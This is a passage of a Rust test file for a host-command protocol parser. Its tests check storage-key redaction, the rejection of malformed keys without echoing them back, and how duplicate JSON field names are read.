        serialised.contains("\"storage_key\":\"[redacted]\""),
        "{serialised}"
    );
    let Ok(HostCommand::Configure(without)) = configure_with_key(Value::Null) else {
        panic!("configure without a key is read");
    };
    assert_eq!(without.storage_key, None);
}

#[test]
fn a_storage_key_that_is_not_32_bytes_of_base64_is_refused_without_repeating_it() {
    for bad in [
        json!(""),
        json!("c2VjcmV0"),
        json!(format!("{STORAGE_KEY}AA")),
        json!("secret key that is not base64 at all, forty-four"),
        json!(7),
    ] {
        let rejection = configure_with_key(bad.clone()).unwrap_err();
        let problems = rejection.problems();
        assert_eq!(problems.len(), 1, "{bad}");
        assert_eq!(problems[0].path, "$.storage_key", "{bad}");
        let text = rejection.to_string();
        assert!(
            !text.contains("c2VjcmV0") && !text.contains("secret"),
            "{text}"
        );
    }
}

/// An object read from a host message as serde_json reads one: a name written twice takes its
/// last value (a theme property, a field), and an unknown name written twice is counted once.
#[test]
fn a_name_written_twice_is_read_once_with_its_last_value() {
    let payload = r##"{"agent_id": "agent-1", "agent_id": "agent-2", "role": "handler",
        "theme": {"--idk-accent": "#000000", "--idk-bg": "#ffffff", "--idk-accent": "#0b5fff"}}"##;
    let HostCommand::Configure(c) = read_bare_command("configure", payload).unwrap() else {
        panic!("not a configure");
    };
    assert_eq!(c.agent_id, "agent-2");
    assert_eq!(c.theme.properties().len(), 2);
    assert_eq!(
        c.theme.properties().get("--idk-accent").map(String::as_str),
        Some("#0b5fff")
    );
    let rejection = read_bare_command(
        "configure",
        r#"{"agent_id": "agent-1", "role": "handler", "extra": 1, "extra": 2, "other": 3}"#,
    )
    .unwrap_err();
    assert!(
        rejection
            .to_string()
            .contains("has 2 fields that are not part of the protocol"),
        "{rejection}"
    );
}
